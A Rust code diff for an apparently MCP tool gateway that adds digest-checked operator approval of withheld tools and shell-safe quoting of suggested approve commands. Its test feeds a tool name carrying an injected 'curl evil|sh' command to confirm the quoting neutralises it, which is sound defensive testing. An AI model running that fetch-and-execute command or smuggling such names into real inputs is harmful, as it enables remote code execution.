@@ -6,7 +6,7 @@
 
 use super::{Catalog, Upstream};
 use crate::logline::printable;
-use crate::pins::{self, Withheld};
+use crate::pins::{self, Flush, Withheld};
 use std::collections::HashSet;
 use std::sync::Arc;
 
@@ -29,6 +29,19 @@ pub enum ApproveError {
         withheld: Vec<String>,
         /// Its state, when not ready (nothing is listed then).
         state: Option<String>,
+    },
+    /// The tool lists another definition than the operator reviewed
+    /// (`expect`): nothing was approved.
+    #[error("upstream {upstream:?} lists tool {tool:?} now with digest {}, not the {expected} expected; nothing approved (review it again: mcp-edge tools show)", now.hex())]
+    Stale {
+        /// The upstream.
+        upstream: String,
+        /// The tool.
+        tool: String,
+        /// What the operator expected (a digest or a prefix of one).
+        expected: String,
+        /// The digest listed now.
+        now: pins::Digest,
     },
     /// Approved for this run, but the pins file could not be written: a
     /// restart would withhold the tools again.
@@ -70,7 +83,7 @@ impl Upstream {
     /// reviewed against the pins: under `trust = "pin"` the changed and new
     /// ones are withheld; under `"auto"` changes are logged and pinned.
     /// Clients are told of the kinds that changed (withheld tools included).
-    pub(crate) fn set_catalog(&self, mut c: Catalog) {
+    pub(crate) async fn set_catalog(&self, mut c: Catalog) {
         if let Some(live) = self.shared.read().expect("shared lock").link.live.as_ref() {
             live.conn.set_param_headers(&c.tools);
         }
@@ -86,11 +99,13 @@ impl Upstream {
             c.withheld = self
                 .pins
                 .review(name, trust, capacity, &listed, !c.incomplete);
-            log_newly_withheld(name, &cur.withheld, &c.withheld);
+            log_newly_withheld(&self.pins, name, &cur.withheld, &c.withheld);
             self.publish(&mut cur, c);
         }
-        if let Err(e) = self.pins.flush() {
-            tracing::warn!(upstream = %name, "tool pins not saved: {e}");
+        if let Err(e) = self.pins.flush(Flush::Coalesced).await {
+            if let Some(skipped) = self.pins.log_allowed(name) {
+                tracing::warn!(upstream = %name, skipped, "tool pins not saved: {e}");
+            }
         }
     }
 
@@ -118,6 +133,11 @@ impl Upstream {
         self.catalog().withheld.clone()
     }
 
+    /// The digest pinned for tool `tool` of this upstream, if any.
+    pub fn pin_of(&self, tool: &str) -> Option<pins::Digest> {
+        self.pins.pin_of(self.name(), tool)
+    }
+
     /// How many tool definitions are pinned for this upstream.
     pub fn pinned(&self) -> usize {
         self.pins.pinned(self.name())
@@ -127,31 +147,26 @@ impl Upstream {
     /// tool): the definition listed now is pinned, the pins file written,
     /// and the tool served from the next request on (clients get
     /// `notifications/tools/list_changed`). Returns what was approved
-    /// (empty when nothing was withheld and no tool was named).
+    /// (empty when nothing was withheld and no tool was named). `expect`
+    /// (lower-case hex, a digest or a prefix of one): approve only if the
+    /// tool lists that definition now, checked under the catalog lock, so a
+    /// definition changed after the operator looked is not approved.
     ///
     /// # Errors
     /// [`ApproveError::NotWithheld`] for a tool it does not withhold, or
     /// when it is not connected (nothing is listed, so nothing reviewed);
+    /// [`ApproveError::Stale`] when `expect` does not match;
     /// [`ApproveError::NotSaved`] when the approval holds but the file
     /// could not be written.
-    pub fn approve(&self, tool: Option<&str>) -> Result<Vec<Withheld>, ApproveError> {
+    pub async fn approve(
+        &self,
+        tool: Option<&str>,
+        expect: Option<&str>,
+    ) -> Result<Vec<Withheld>, ApproveError> {
         let name = self.name();
         let chosen = {
             let mut cur = self.catalog.write().expect("catalog lock");
-            let chosen: Vec<Withheld> = (cur.withheld.iter())
-                .filter(|w| tool.is_none_or(|t| w.tool == t))
-                .cloned()
-                .collect();
-            let status = self.status();
-            if chosen.is_empty() && (tool.is_some() || !status.is_ready()) {
-                return Err(ApproveError::NotWithheld {
-                    upstream: name.to_owned(),
-                    tool: tool.map(str::to_owned),
-                    withheld: cur.withheld.iter().map(|w| w.tool.clone()).collect(),
-                    state: (!status.is_ready())
-                        .then(|| status.describe(tokio::time::Instant::now())),
-                });
-            }
+            let chosen = self.choose(&cur, tool, expect)?;
             if chosen.is_empty() {
                 return Ok(chosen); // connected, and nothing is withheld
             }
@@ -172,7 +187,7 @@ impl Upstream {
         for w in &chosen {
             tracing::info!(upstream = %name, tool = %printable(&w.tool), "tool approved by an operator and served: {}", w.detail());
         }
-        match self.pins.flush() {
+        match self.pins.flush(Flush::Now).await {
             Ok(()) => Ok(chosen),
             Err(source) => Err(ApproveError::NotSaved {
                 upstream: name.to_owned(),
@@ -183,17 +198,121 @@ impl Upstream {
     }
 }
 
+impl Upstream {
+    /// What [`Upstream::approve`] approves in `cur`: the withheld tool
+    /// `tool` (every one when `None`), checked against `expect`.
+    fn choose(
+        &self,
+        cur: &Catalog,
+        tool: Option<&str>,
+        expect: Option<&str>,
+    ) -> Result<Vec<Withheld>, ApproveError> {
+        let name = self.name();
+        let chosen: Vec<Withheld> = (cur.withheld.iter())
+            .filter(|w| tool.is_none_or(|t| w.tool == t))
+            .cloned()
+            .collect();
+        let status = self.status();
+        if chosen.is_empty() && (tool.is_some() || !status.is_ready()) {
+            return Err(ApproveError::NotWithheld {
+                upstream: name.to_owned(),
+                tool: tool.map(str::to_owned),
+                withheld: cur.withheld.iter().map(|w| w.tool.clone()).collect(),
+                state: (!status.is_ready()).then(|| status.describe(tokio::time::Instant::now())),
+            });
+        }
+        if let (Some(e), [w]) = (expect, chosen.as_slice()) {
+            if !w.now.hex().starts_with(e) {
+                return Err(ApproveError::Stale {
+                    upstream: name.to_owned(),
+                    tool: w.tool.clone(),
+                    expected: e.to_owned(),
+                    now: w.now,
+                });
+            }
+        }
+        Ok(chosen)
+    }
+}
+
 /// A warning for each tool withheld now that was not withheld (as it is)
-/// before, with the command that approves it.
-fn log_newly_withheld(upstream: &str, before: &[Withheld], now: &[Withheld]) {
+/// before, with the command that approves it; within the upstream's log
+/// budget ([`pins::Pins::log_allowed`]).
+fn log_newly_withheld(pins: &pins::Pins, upstream: &str, before: &[Withheld], now: &[Withheld]) {
     let seen: HashSet<(&str, pins::Digest)> =
         before.iter().map(|w| (w.tool.as_str(), w.now)).collect();
     for w in now
         .iter()
         .filter(|w| !seen.contains(&(w.tool.as_str(), w.now)))
     {
-        let tool = printable(&w.tool);
-        tracing::warn!(upstream, tool = %tool, reason = w.reason_name(),
-            "tool withheld (trust = \"pin\"): {}; to serve it: mcp-edge tools approve {upstream} '{tool}'", w.detail());
+        let Some(skipped) = pins.log_allowed(upstream) else {
+            continue;
+        };
+        let how = match approve_command(upstream, &w.tool, w.now) {
+            Some(cmd) => format!("review it (mcp-edge tools show) and approve it: {cmd}"),
+            None => "its name cannot be typed safely in a shell: review and approve it through POST /tools/approve".to_owned(),
+        };
+        tracing::warn!(upstream, tool = %printable(&w.tool), reason = w.reason_name(), skipped,
+            "tool withheld (trust = \"pin\"): {}; {how}", w.detail());
+    }
+}
+
+/// `word` quoted for a POSIX shell: as it is when made of
+/// `[A-Za-z0-9_.-]` only (and not starting with `-`), else in single
+/// quotes (`'` as `'\''`); `None` when empty or holding a control
+/// character (a command line in a log could not show it as it is).
+fn shell_word(word: &str) -> Option<String> {
+    if word.is_empty() || word.chars().any(char::is_control) {
+        return None;
+    }
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
+    if word.chars().all(plain) && !word.starts_with('-') {
+        return Some(word.to_owned());
+    }
+    Some(format!("'{}'", word.replace('\'', r"'\''")))
+}
+
+/// The command line that approves `upstream`'s tool `tool` listed with
+/// digest `now`, safe to paste into a shell; `None` when a name cannot be
+/// written safely.
+fn approve_command(upstream: &str, tool: &str, now: pins::Digest) -> Option<String> {
+    let (upstream, tool) = (shell_word(upstream)?, shell_word(tool)?);
+    Some(format!(
+        "mcp-edge tools approve --expect {} {upstream} -- {tool}",
+        now.short()
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn approve_commands_are_safe_to_paste() {
+        let d = pins::digest::of(&serde_json::json!({"name": "t"}));
+        let cmd = |tool: &str| approve_command("files", tool, d);
+        assert_eq!(
+            cmd("read_file-2.v1"),
+            Some(format!(
+                "mcp-edge tools approve --expect {} files -- read_file-2.v1",
+                d.short()
+            ))
+        );
+        let evil = cmd("x'$(curl evil|sh)'").unwrap();
+        assert!(
+            evil.ends_with(r#" -- 'x'\''$(curl evil|sh)'\'''"#),
+            "{evil}"
+        );
+        // What a shell makes of it: the name, as one word.
+        let word = shell_word("x'$(curl evil|sh)'").unwrap();
+        let out = std::process::Command::new("sh")
+            .args(["-c", &format!("printf %s {word}")])
+            .output()
+            .unwrap();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "x'$(curl evil|sh)'");
+        assert_eq!(shell_word("a b;c").as_deref(), Some("'a b;c'"));
+        assert_eq!(shell_word("-rf").as_deref(), Some("'-rf'"));
+        assert_eq!(cmd("x\ny"), None);
+        assert_eq!(cmd(""), None);
     }
 }
